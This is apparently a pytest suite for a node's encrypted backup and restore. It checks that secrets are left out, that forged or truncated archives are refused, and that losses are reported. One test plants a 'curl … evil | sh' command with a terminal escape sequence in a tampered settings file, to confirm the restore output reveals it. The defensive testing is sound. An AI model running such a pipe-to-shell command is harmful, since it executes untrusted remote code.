"""What a backup holds, and what it never holds."""

import asyncio
import json
import tracemalloc
from contextlib import closing
from hashlib import sha256
from pathlib import Path

import pytest
from sqlalchemy import insert, select

from tests.backup.test_drill import one_beat, settings_in, standing
from tests.backup.world import CLOCK, Vault
from tests.encounters.phone import Phone
from tests.encounters.stewards import Pair, founding, leave, of_desk, signed
from tocsin import backup, new_keys
from tocsin.acts import backup_is_fresh
from tocsin.alerts import brake
from tocsin.alerts.refusals import PublishingFrozen
from tocsin.backup import BackupNowhere, BackupTaken, BackupToItself, SchemaOlder
from tocsin.backup_commands import words_of
from tocsin.crypto import envelope
from tocsin.crypto.alert import Status
from tocsin.encounters import create, erase, receive, start, state
from tocsin.encounters.create import Start
from tocsin.encounters.model import RecordingErased, RecordingLost
from tocsin.encounters.tables import hold, recording
from tocsin.node import Node
from tocsin.own_keys import read_published
from tocsin.people import desk_keys
from tocsin.people.statement import Act
from tocsin.rehearse import ActFailed
from tocsin.restore import Asked, FolderNotEmpty, KeyNotTheOne
from tocsin.settings import Settings, settings_of
from tocsin.store import migrate, tables
from tocsin.store.archive import ArchiveDamaged, ArchiveNotForUs, part_of
from tocsin.store.blobs import DiskBlobs
from tocsin.store.db import Database
from tocsin.store.erase_keys import EraseKeys
from tocsin.tlog import public

ORIGIN = "city.example/first"


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    settings = settings_in(tmp_path / "node", ORIGIN)
    new_keys.make(settings, None, CLOCK)
    return settings


async def record(node: Node, *, is_erased: bool = False, is_stopped: bool = False) -> Phone:
    """Three seconds; of one that goes on, or was stopped, or was erased again."""
    phone = Phone(node.share_recipient)
    if not node.encounters.is_ready:
        await start.start(node.encounters)
    await create.create(node.encounters, Start(**phone.start()))
    for seq in range(3):
        await receive.receive(node.encounters, phone.id, phone.upload, seq, phone.second(final=is_stopped and seq == 2))
    if is_erased:
        live = await node.encounters.live(phone.id)
        assert live is not None
        await erase.erase(node.encounters, live)
    return phone


def backed_up(settings: Settings, vault: Vault) -> tuple[Phone, Phone]:
    """A node with a recording that is kept and one that was erased, and its backup."""

    async def live() -> tuple[Phone, Phone]:
        kept, gone = await record(node), await record(node, is_erased=True)
        await one_beat(node)
        return kept, gone

    with standing(settings) as node:
        phones = asyncio.run(live())
        vault.make(settings)
    return phones


def test_nothing_that_opens_a_recording_is_in_it(settings: Settings, tmp_path: Path) -> None:
    vault = Vault(tmp_path / "vault")
    phone, _ = backed_up(settings, vault)
    with standing(settings) as node:
        box, slot = node.database.read_now(
            lambda c: c.execute(select(recording.c.box, recording.c.slot).where(recording.c.id == phone.id)).one()
        )
        key = node.encounters.erase_keys.key(slot)
    everything = b"".join(vault.parts().values())
    opened = everything.replace(b"=", b"")
    for secret in (box, key, phone.rk, phone.wraps, phone.share, phone.upload):
        assert secret not in everything
        assert (base64_of(secret))[:40] not in opened
    assert not [name for name in vault.parts() if "erase" in name or "segment" in name or "unlocked" in name]


def base64_of(raw: bytes) -> bytes:
    from base64 import b64encode

    return b64encode(raw).replace(b"=", b"")


def test_every_part_stands_in_a_list_that_sha256sum_reads(settings: Settings, tmp_path: Path) -> None:
    vault = Vault(tmp_path / "vault")
    backed_up(settings, vault)
    parts = vault.parts()
    manifest = json.loads(parts.pop("manifest.json"))
    lists = {name: parts.pop(name) for name in list(parts) if name.startswith("sums/")}
    assert {name: sha256(raw).hexdigest() for name, raw in lists.items()} == manifest["sums"]
    listed = dict(line.split("  ", 1)[::-1] for raw in lists.values() for line in raw.decode().splitlines())
    assert listed == {name: sha256(raw).hexdigest() for name, raw in parts.items()}
    assert manifest["log"]["size"] == int(parts["log/checkpoint"].split(b"\n")[1])
    assert manifest["not_in_it"] == ["erase.keys", "recordings", "unlocked keys"]


def test_every_table_is_carried_or_left_on_purpose() -> None:
    carried, left = {table.name for table in backup.CARRIED}, {table.name for table in backup.LEFT}
    assert carried | left == set(tables.metadata.tables), "say in tocsin/backup.py whether a backup carries this table"
    assert not carried & left


def test_a_restored_node_says_what_is_lost_and_what_was_erased(settings: Settings, tmp_path: Path) -> None:
    vault = Vault(tmp_path / "vault")
    kept, gone = backed_up(settings, vault)
    checkpoint = DiskBlobs(Path(settings.folder) / "log").get("checkpoint")
    done = vault.restore(tmp_path / "new", checkpoint=checkpoint)
    assert (done.tables.lost, done.tables.erased) == (1, 1)

    async def ask(node: Node) -> None:
        await start.start(node.encounters)
        with pytest.raises(RecordingLost):
            await state.state(node.encounters, kept.id, kept.upload)
        with pytest.raises(RecordingLost):
            await receive.receive(node.encounters, kept.id, kept.upload, 3, kept.second())
        with pytest.raises(RecordingErased):
            await receive.receive(node.encounters, gone.id, gone.upload, 3, gone.second())
        assert await erase.expire(node.encounters, 10**6, node.encounters.days) == 1
        await record(node)

    with standing(settings_of(tmp_path / "new" / "node.toml")) as node:
        asyncio.run(ask(node))
    assert EraseKeys.open(tmp_path / "new" / "erase.keys").damaged() == []


def test_refusals_leave_nothing_and_say_what_to_do(settings: Settings, tmp_path: Path) -> None:
    vault = Vault(tmp_path / "vault")
    with pytest.raises(BackupToItself):
        backup.make(settings, vault.file, (read_published(settings)["share"],), CLOCK, lambda *_: None)
    backed_up(settings, vault)
    with pytest.raises(BackupNowhere):
        backup.make(settings, tmp_path / "no stick" / "x.age", (vault.recipient,), CLOCK, lambda *_: None)
    with pytest.raises(BackupTaken):
        vault.make(settings)
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "something").touch()
    with pytest.raises(FolderNotEmpty):
        vault.restore(tmp_path / "full")
    other = settings_in(tmp_path / "other", ORIGIN)
    new_keys.make(other, None, CLOCK)
    with pytest.raises(KeyNotTheOne):
        vault.restore(tmp_path / "new", log_key=read_published(other)["log"])
    vault.identity, _ = envelope.new_identity(CLOCK)
    with pytest.raises(ArchiveNotForUs):
        vault.restore(tmp_path / "new")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["full", "node", "other", "vault"]
    with closing(Database.open(settings.database_url)) as database:
        database.migrate(migrate.revisions()[-2])
    vault.file.unlink()
    with pytest.raises(SchemaOlder):
        vault.make(settings)


def test_a_backup_that_somebody_made_up_is_refused(settings: Settings, tmp_path: Path) -> None:
    """Anybody can seal to a public recipient. What is slipped in has to agree with the log, which only the node's key signed."""
    vault = Vault(tmp_path / "vault")
    backed_up(settings, vault)
    parts = vault.parts()
    checkpoint = parts["log/checkpoint"]
    row = {"columns": [["digest", "bytes"], ["kind", "plain"], ["entry", "bytes"], ["leaf", "plain"], ["nth", "plain"]]}
    entry = b"tocsin.leaf/v1 desk-key\n{}"
    values = [
        base64_of(sha256(entry).digest()).decode() + "=",
        "desk-key",
        "dG9jc2luLmxlYWYvdjEgZGVzay1rZXkKe30=",
        1,
        99,
    ]
    changes = {
        "an entry the log does not have": {
            "tables/public_entry/000007": f"{json.dumps(row)}\n{json.dumps(values)}\n".encode()
        },
        "another leaf in the log": {"log/tile/entries/000.p/64": parts["log/tile/entries/000.p/64"][:-1] + b"x"},
        "a part nobody knows": {"erase.keys": bytes(4096)},
        "a table nobody carries": {"tables/frame/000000": b"{}\n"},
    }
    for what, change in changes.items():
        vault.file.unlink()
        write(vault, {**parts, **change})
        with pytest.raises(Exception, match=r"archive_damaged|log_damaged|log_lied"):
            vault.restore(tmp_path / "new", checkpoint=checkpoint)
        assert not (tmp_path / "new").exists(), what
    vault.file.unlink()
    write(vault, parts)
    assert vault.restore(tmp_path / "new", checkpoint=checkpoint).tables.lost == 1


def test_what_a_backup_would_have_the_node_run_is_said(settings: Settings, tmp_path: Path) -> None:
    """The card proves the log, and says nothing of settings that somebody sealed beside a copy of it."""
    vault = Vault(tmp_path / "vault")
    backed_up(settings, vault)
    parts, key = vault.parts(), read_published(settings)["log"]
    asked = Asked(log_key=key, checkpoint=parts["log/checkpoint"])
    told = json.loads(parts["settings.json"])
    for command, is_said in (([], False), (["sh", "-c", "curl \x1b[2K evil | sh"], True)):
        vault.file.unlink()
        told["alarm"] = {"command": command, "url": "", "probe_minutes": 5}
        write(vault, {**parts, "settings.json": json.dumps(told).encode()})
        done = vault.restore(tmp_path / f"new-{is_said}", log_key=key, checkpoint=asked.checkpoint)
        said = "\n".join(words_of(done, asked, 0))
        assert ("curl \\u001b[2K evil | sh" in said, "Only the log is proven" in said) == (is_said, is_said)


def write(vault: Vault, parts: dict[str, bytes]) -> None:
    """A backup of these parts, with sums and manifest as they have to be."""
    from tocsin.store import archive

    manifest = json.loads(parts["manifest.json"])
    held = {name: raw for name, raw in parts.items() if name != "manifest.json" and not name.startswith("sums/")}
    sums = "".join(f"{sha256(raw).hexdigest()}  {name}\n" for name, raw in held.items()).encode()
    manifest |= {"parts": len(held), "sums": {"sums/000001": sha256(sums).hexdigest()}}
    whole = {**held, "sums/000001": sums, "manifest.json": json.dumps(manifest).encode()}
    archive.new(vault.file, [vault.recipient], [part_of(name, raw) for name, raw in whole.items()])


def test_the_check_says_when_the_last_backup_was_made(settings: Settings, tmp_path: Path) -> None:
    folder = Path(settings.folder)
    with pytest.raises(ActFailed, match="none was ever made"):
        backup_is_fresh(folder, CLOCK)
    backed_up(settings, Vault(tmp_path / "vault"))
    assert backup_is_fresh(folder, CLOCK) == "the last one is 0 h old"
    (folder / backup.REMEMBERED).write_text(json.dumps({"made_ms": CLOCK.now_ms() - 3 * 86_400_000}))
    with pytest.raises(ActFailed, match="3 days old"):
        backup_is_fresh(folder, CLOCK)


def test_a_list_of_sums_stands_behind_every_so_many_parts(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(backup, "LISTED", 3)
    vault = Vault(tmp_path / "vault")
    backed_up(settings, vault)
    assert len([name for name in vault.parts() if name.startswith("sums/")]) >= 4
    checkpoint = DiskBlobs(Path(settings.folder) / "log").get("checkpoint")
    assert vault.restore(tmp_path / "new", checkpoint=checkpoint).tables.lost == 1


def test_a_truncated_backup_is_refused_though_each_piece_is_genuine(settings: Settings, tmp_path: Path) -> None:
    vault = Vault(tmp_path / "vault")
    backed_up(settings, vault)
    vault.file.write_bytes(vault.file.read_bytes()[:-1000])
    with pytest.raises(ArchiveDamaged):
        vault.restore(tmp_path / "new")
    assert not (tmp_path / "new").exists()


def test_memory_does_not_grow_with_the_node(settings: Settings, tmp_path: Path) -> None:
    """40 MB of timestamps pass through as many files; no more than a few of them are in memory at once."""
    vault = Vault(tmp_path / "vault")
    with standing(settings) as node:
        asyncio.run(one_beat(node))
    blobs = DiskBlobs(Path(settings.folder) / "log", is_draft=True)
    for number in range(40):
        blobs.put(f"timestamps/0/{number}", CLOCK.random_bytes(1_000_000))
    tracemalloc.start()
    try:
        made = vault.make(settings)
        assert made.bytes > 40_000_000
        assert tracemalloc.get_traced_memory()[1] < 12_000_000
    finally:
        tracemalloc.stop()


def test_a_hold_and_a_waiting_key_that_are_lost_are_told(settings: Settings, tmp_path: Path) -> None:
    vault = Vault(tmp_path / "vault")
    backed_up(settings, vault)
    vault.file.unlink()
    row = {"recording_id": b"r" * 16, "day": 1, "reason": "x", "slot": 1, "box": b"sealed", "signed": b"signed"}
    with standing(settings) as node:
        node.database.write_now(lambda c: c.execute(insert(hold).values(**row)))
        pair = Pair.fresh()
        leave(Path(settings.folder), signed(pair, founding(ORIGIN, pair)))
        asyncio.run(node.take_inbox())
        vault.make(settings)
    checkpoint = DiskBlobs(Path(settings.folder) / "log").get("checkpoint")
    done = vault.restore(tmp_path / "new", checkpoint=checkpoint)
    said = "\n".join(words_of(done, Asked(checkpoint=checkpoint), 0))
    assert "1 stood under a legal hold" in said
    assert "waiting for the log and are not in it: 1." in said


def test_a_key_that_was_taken_off_the_desk_after_the_backup_stays_off(settings: Settings, tmp_path: Path) -> None:
    vault = Vault(tmp_path / "vault")
    keys = [envelope.new_identity(CLOCK)[1] for _ in range(2)]

    pair = Pair.fresh()
    with standing(settings) as node:
        leave(Path(settings.folder), signed(pair, founding(ORIGIN, pair)), of_desk(ORIGIN, pair, Act.DESK_ADD, keys[0]))
        asyncio.run(one_beat(node))
        vault.make(settings)
        changes = ((Act.DESK_REMOVE, keys[0]), (Act.DESK_ADD, keys[1]))
        leave(Path(settings.folder), *(of_desk(ORIGIN, pair, act, key) for act, key in changes))
        asyncio.run(one_beat(node))
        listed = node.database.read_now(lambda c: public.standing(c, desk_keys.KIND))
    vault.restore(tmp_path / "new", source=str(tmp_path / "node" / "log"))
    with standing(settings_of(tmp_path / "new" / "node.toml")) as node:
        again = node.database.read_now(lambda c: public.standing(c, desk_keys.KIND))
    assert {one.entry for one in again} == {one.entry for one in listed}
    assert {(one.leaf, one.tree_size, one.beat) for one in again} == {
        (one.leaf, one.tree_size, one.beat) for one in listed
    }
    assert len(listed) == 3


def test_a_freeze_of_publishing_outlives_the_machine_and_no_hour_of_an_alert_does(
    settings: Settings, tmp_path: Path
) -> None:
    vault, exact = Vault(tmp_path / "vault"), 1_796_000_123
    with standing(settings) as node:
        asyncio.run(one_beat(node))
        frozen = brake.Brake("kkckcc", f"{exact - 123}", is_frozen=True, third_until_s=exact, lifting=b"m" * 16)
        node.database.write_now(brake.locked)
        node.database.write_now(lambda c: brake.write(c, frozen))
        checkpoint = DiskBlobs(Path(settings.folder) / "log").get("checkpoint")
        vault.make(settings)
    everything = b"".join(vault.parts().values())
    assert str(exact).encode() not in everything
    assert str(exact - 123).encode() not in everything
    vault.restore(tmp_path / "new", checkpoint=checkpoint)
    with standing(settings_of(tmp_path / "new" / "node.toml")) as node:
        found = node.database.read_now(brake.read)
        assert found == brake.Brake("kkckcc", is_frozen=True, third_until_s=exact + 3_600 - exact % 3_600)
        with pytest.raises(PublishingFrozen):
            brake.refuse_frozen(found, Status.ACTUAL)
